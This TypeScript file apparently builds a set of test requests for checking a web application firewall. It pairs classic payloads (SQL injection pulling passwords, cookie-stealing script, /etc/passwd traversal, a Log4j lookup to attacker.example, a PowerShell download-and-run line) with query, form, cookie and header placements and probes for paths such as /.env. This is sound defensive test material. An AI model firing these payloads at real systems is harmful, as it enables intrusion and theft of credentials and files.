import type { Request } from '@sallyport/http';
import { PLAIN, urlEncoded, withArgument, withBody, withCookie, withHeaderValue, withPath } from './draft.ts';

/** A request that web application firewalls are there to stop. */
export interface Attack {
  /** `SQL injection in a query argument`. */
  readonly title: string;
  readonly request: Request;
  readonly in: 'query' | 'body' | 'path' | 'header' | 'cookie' | 'request';
}

const PAYLOADS: readonly (readonly [title: string, text: string])[] = [
  ['SQL injection', "1' UNION SELECT username, password FROM users--"],
  ['cross-site scripting', '<script>alert(document.cookie)</script>'],
  ['path traversal', '../../../../etc/passwd'],
  ['Log4j', '$' + '{jndi:ldap://attacker.example/a}'],
  ['a shell command', '; cat /etc/passwd; echo $HOME'],
  ['remote file inclusion', 'http://192.0.2.10/shell.txt'],
  ['instance metadata', 'http://169.254.169.254/latest/meta-data/'],
  ['PHP code', '<?php fsockopen($_GET[0]); ?>'],
  ['a PowerShell command', '| powershell Invoke-Expression (New-Object Net.WebClient).DownloadString(1)'],
  ['Java deserialization', '(java.lang.Runtime).getRuntime().exec("whoami")'],
];

/** In the order in which a reader takes them in most easily. */
export const ATTACKS: readonly Attack[] = [
  ...PAYLOADS.map(
    ([title, text]): Attack => ({
      title: `${title} in a query argument`,
      request: withArgument(PLAIN, 'q', urlEncoded(text)),
      in: 'query',
    }),
  ),
  ...PAYLOADS.map(
    ([title, text]): Attack => ({
      title: `${title} in a form`,
      request: withBody(PLAIN, `q=${urlEncoded(text)}`, 'application/x-www-form-urlencoded'),
      in: 'body',
    }),
  ),
  ...PAYLOADS.map(
    ([title, text]): Attack => ({
      title: `${title} in a cookie`,
      request: withCookie(PLAIN, 'q', urlEncoded(text).replaceAll(';', '%3B').replaceAll(',', '%2C')),
      in: 'cookie',
    }),
  ),
  ...PAYLOADS.map(
    ([title, text]): Attack => ({
      title: `${title} in a header`,
      request: withHeaderValue(PLAIN, 'X-Note', text),
      in: 'header',
    }),
  ),
  ...['/sqlmanager/', '/WEB-INF/web.xml', '/.env', '/wp-login.php', '/xmlrpc.php', '/backup.log', '/.git/config'].map(
    (path): Attack => ({ title: `the path "${path}"`, request: withPath(PLAIN, path), in: 'path' }),
  ),
  {
    title: 'a scanner',
    request: withHeaderValue(PLAIN, 'User-Agent', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)'),
    in: 'header',
  },
  { title: 'an HTTP library', request: withHeaderValue(PLAIN, 'User-Agent', 'python-requests/2.31.0'), in: 'header' },
  {
    title: 'a request without User-Agent',
    request: { ...PLAIN, headers: PLAIN.headers.filter(([name]) => name !== 'User-Agent') },
    in: 'request',
  },
  { title: 'a query string of 3,000 bytes', request: withArgument(PLAIN, 'q', 'a'.repeat(3000)), in: 'query' },
  {
    title: 'a body of 9,000 bytes',
    request: withBody(PLAIN, `q=${'a'.repeat(9000)}`, 'application/x-www-form-urlencoded'),
    in: 'body',
  },
  { title: 'the method PROPFIND', request: { ...PLAIN, method: 'PROPFIND' }, in: 'request' },
];
